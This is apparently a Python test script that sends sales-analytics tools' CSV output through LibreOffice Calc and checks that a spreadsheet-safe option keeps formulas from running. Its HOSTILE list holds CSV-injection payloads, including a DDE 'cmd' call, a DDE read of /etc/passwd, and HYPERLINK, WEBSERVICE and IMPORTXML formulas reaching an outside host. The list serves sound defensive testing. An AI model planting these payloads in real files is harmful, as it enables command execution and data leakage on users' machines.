"""Round trips through LibreOffice Calc, and formulas that it must not run.

Every tool's output is opened by Calc, saved as xlsx and as ods, opened again and saved as
CSV; then a tool reads it. `make check-spreadsheet` runs it, with the tools in the PATH.
Prints a line for each check; status 1 if one failed.
"""
import csv
import io
import os
import re
import subprocess
import sys
import tempfile
from decimal import Decimal, InvalidOperation
from pathlib import Path

DATA = Path(__file__).absolute().parent / "data"
# The tokens of the filter: comma, quote, UTF-8 (76), from line 1, and the formats of the
# columns: the first is text. revutils(7) has the same.
FIRST_IS_TEXT = "CSV:44,34,76,1,1/2"
TO_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false"

SAAS = "Lead,MQL,SQL,Opportunity,Won"
IDS = ["00042", "12345678901234567890", "1E5", "MAR1", "3-4", "0012", "=1+1", "Zoë 😀"]
READABLE = "rule,when,points\nsome,,1\n"

# Tool, its command, the command that reads what comes back as back.csv. READ stands for a
# run of lead-score that gives every row a point, and so reads any table.
RUNS = [
    ("funnel-stats", f"funnel-stats -q -s {SAAS} --lost=Lost saas.csv",
     "revenue-plan -q --target=3105000"),
    ("funnel-stats --summary",
     f"funnel-stats -q -s {SAAS} --lost=Lost --cohort=quarter --summary saas.csv", "READ"),
    ("lead-score", "lead-score --rules={d}/leadscore-saas-rules.csv "
     "--activities={d}/leadscore-saas-activities.csv {d}/leadscore-saas-leads.csv",
     "lead-score --replace --rules={d}/leadscore-saas-rules.csv "
     "--activities={d}/leadscore-saas-activities.csv"),
    ("lead-train", "lead-train -q --outcome=won {d}/lead-train-leads.csv",
     "lead-score {d}/lead-train-leads.csv --rules="),
    ("discount-calc",
     "discount-calc --policy={d}/discount-saas-policy.csv {d}/discount-saas-quotes.csv",
     "discount-calc --replace --policy={d}/discount-saas-policy.csv"),
    ("discount-calc --waterfall", "discount-calc --waterfall "
     "--policy={d}/discount-saas-policy.csv {d}/discount-saas-quotes.csv", "READ"),
    ("attribute", "attribute --model=markov {d}/attribute-lemonade.csv",
     "roi -q --by=channel"),
    ("roi", "roi -q --by=channel --total {d}/roi-spend.csv {d}/roi-results.csv", "READ"),
    ("forecast", "forecast -q --period=month {d}/forecast-airpassengers.csv", "READ"),
    ("forecast by week",
     "forecast -q --period=week --by=stand {d}/forecast-lemonade.csv", "READ"),
    ("pipeline", "pipeline -q --horizon=2 --quota=300 {d}/pipeline-lemonade.csv", "READ"),
    ("clv", "clv --margin=40% {d}/clv-orders.csv", "roi -q --by=customer"),
    ("commission",
     "commission --plan={d}/commission-plan.csv {d}/commission-deals.csv",
     "READ"),
    ("revenue-plan",
     "revenue-plan --rates=Lead:5%,SQL:1/4,Won --target=100000 --deal-size=1000", "READ"),
    ("ids", "lead-score --rules=readable.csv ids.csv",
     "lead-score --replace --rules=readable.csv"),
]

# What runs in one spreadsheet or another. The last ones begin with what only looks like
# a sign, or with space that an import may strip.
HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=SUM(1,2)", "=1+1;2", "\t=1+1", "\r=1+1",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "=WEBSERVICE(\"http://example.org\")",
    "=IMPORTXML(\"http://example.org\",\"//a\")", "\"=1+1\"", "'=1+1", "==1+1", "=-1",
    "+49 151 123", "-", "=A1", "=1", "+A1", "-A1", "@A1", "=\n1+1", "＝1+1", "＋1+1",
    "－1+1", "＠SUM(1)", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "{=1+1}", "=TRUE()",
]
# Cells that are no formulas and have to stay as they are.
HARMLESS = ["-5", "+49.5", "-0.5", "1E5", "a=1", "a@b.co", "3-4"]

failures = 0


def check(passed, what, detail=""):
    global failures
    failures += not passed
    print(("ok " if passed else "not ok ") + what)
    if not passed and detail:
        print(detail)


def run(command, *more, **options):
    words = command.format(d=DATA).split()
    done = subprocess.run(words + list(more), capture_output=True, text=True,
                          check=False, **options)
    if done.returncode != 0:
        raise RuntimeError(f"{command}: {done.stderr}")
    return done.stdout


def calc(target, folder, files, *more):
    """Has Calc convert the files into the folder."""
    subprocess.run(
        ["soffice", "-env:UserInstallation=" + Path("profile").absolute().as_uri(),
         "--headless", "--norestore", *more, "--convert-to", target, "--outdir", folder,
         *files], capture_output=True, check=True, timeout=300)


def table(text):
    return list(csv.reader(io.StringIO(text), strict=True))


def number(cell):
    try:
        return Decimal(cell)
    except InvalidOperation:
        return None


def same(ours, theirs):
    """Equal; or the same number, as far as the 15 digits of a spreadsheet go."""
    if ours == theirs:
        return True
    a, b = number(ours), number(theirs)
    if a is None or b is None:
        return False
    return abs(a - b) <= abs(a) * Decimal("5e-15")


def alike(ours, theirs):
    """Equal but for what follows from 15 digits, also in numbers inside of texts."""
    apart = re.compile(r"-?\d+\.\d+")
    if apart.sub("#", ours) != apart.sub("#", theirs):
        return same(ours, theirs)
    return all(abs(Decimal(a) - Decimal(b)) <= Decimal("1e-9") * max(1, abs(Decimal(a)))
               for a, b in zip(apart.findall(ours), apart.findall(theirs)))


def differences(ours, theirs, exact=0, equal=same):
    """Cells that came back otherwise; those of the first columns have to be exact."""
    if [len(row) for row in ours] != [len(row) for row in theirs]:
        yield f"{len(ours)} rows came back as {len(theirs)}, or of other lengths"
        return
    for line, (mine, yours) in enumerate(zip(ours, theirs), 1):
        for i, (a, b) in enumerate(zip(mine, yours)):
            if not (a == b if i < exact else equal(a, b)):
                yield f"row {line}, {ours[0][i]}: {a!r} came back as {b!r}"


def read(reader, file):
    if reader == "READ":
        reader = "lead-score -q --rules=readable.csv -c id=#1 --replace"
    if reader.endswith("="):
        return run(reader + str(file))
    return run(reader, str(file))


def round_trips():
    for i, (_, command, _) in enumerate(RUNS):
        Path(f"t{i}.csv").write_text(run(command), encoding="utf-8")
    names = [f"t{i}" for i in range(len(RUNS))]
    for kind in "xlsx", "ods":
        calc(kind, kind, [f"{name}.csv" for name in names],
             "--infilter=" + FIRST_IS_TEXT)
        calc(TO_CSV, kind + "-back", [f"{kind}/{name}.{kind}" for name in names])
        for name, (tool, _, reader) in zip(names, RUNS):
            before, after = Path(f"{name}.csv"), Path(f"{kind}-back/{name}.csv")
            wrong = list(differences(table(before.read_text(encoding="utf-8")),
                                     table(after.read_text(encoding="utf-8")), 1))
            check(not wrong, f"{tool}: through {kind} and back", "\n".join(wrong[:5]))
            try:
                wrong = list(differences(table(read(reader, before)),
                                         table(read(reader, after)), equal=alike))
            except RuntimeError as error:
                wrong = [str(error)]
            check(not wrong, f"{tool}: what came back from {kind} is read",
                  "\n".join(wrong[:5]))


def formulas(file):
    return re.findall(r'table:formula="([^"]*)"', Path(file).read_text(encoding="utf-8"))


def hostile_cells():
    rows = [[cell] for cell in HOSTILE + HARMLESS]
    with open("hostile.csv", "w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([["cell", "id"]] + [
            row + [str(i)] for i, row in enumerate(rows)])
    for name, option in ("bare", "-q"), ("safe", "--spreadsheet-safe"):
        Path(name + ".csv").write_text(
            run(f"lead-score --rules=readable.csv {option} hostile.csv"),
            encoding="utf-8", newline="")
    # As text, as it comes, with special numbers sought and with spaces stripped.
    imports = {"as it comes": "CSV:44,34,76,1", "special": "CSV:44,34,76,1,,0,false,true",
               "stripped": "CSV:44,34,76,1,,0,false,true,false,false,true",
               "German": "CSV:44,34,76,1,,1031"}
    for name, options in imports.items():
        for file in "bare", "safe":
            calc("fods", file, [file + ".csv"], "--infilter=" + options)
        check(formulas("bare/bare.fods"), f"{name}: without --spreadsheet-safe some run")
        ran = formulas("safe/safe.fods")
        check(not ran, f"{name}: with --spreadsheet-safe none runs", str(ran))
    safe = table(Path("safe.csv").read_text(encoding="utf-8"))
    kept = [row[0] for row in safe[-len(HARMLESS):]]
    check(kept == HARMLESS, "plain numbers and texts are left as they are", str(kept))


def main():
    with tempfile.TemporaryDirectory() as folder:
        os.chdir(folder)
        Path("readable.csv").write_text(READABLE, encoding="utf-8")
        Path("ids.csv").write_text(
            "id\n" + "".join(f'"{one}"\n' for one in IDS), encoding="utf-8")
        with open("saas.csv", "w", encoding="utf-8") as file:
            subprocess.run([sys.executable, str(DATA / "saas.py")], stdout=file, check=True)
        round_trips()
        hostile_cells()
    return failures > 0


if __name__ == "__main__":
    sys.exit(main())
